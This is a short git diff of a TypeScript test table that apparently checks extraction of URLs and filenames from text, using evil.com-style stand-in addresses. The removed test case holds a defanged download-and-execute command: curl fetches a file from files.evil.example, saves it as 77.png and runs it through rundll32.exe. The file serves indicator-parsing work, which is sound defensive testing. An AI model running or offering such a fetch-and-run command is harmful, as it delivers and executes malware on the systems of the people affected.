@@ -54,12 +54,4 @@ export const UNWRAPPING: Table = {
     ['https://www.google.com/search?q=evil.com', 'url https://www.google.com/search?q=evil.com'],
     ['https://evil.com/?url=http://good.com', 'url https://evil.com/?url=http://good.com'],
   ],
-  'a command on the next line': [
-    [
-      'curl -output 77.png --url hxxps://files.evil.example/4fKq0ZbL/stage/310199.gif\nrundll32.exe 77.png,Run',
-      'filename 77.png',
-      'url https://files.evil.example/4fKq0ZbL/stage/310199.gif',
-      'filename rundll32.exe',
-    ],
-  ],
 };
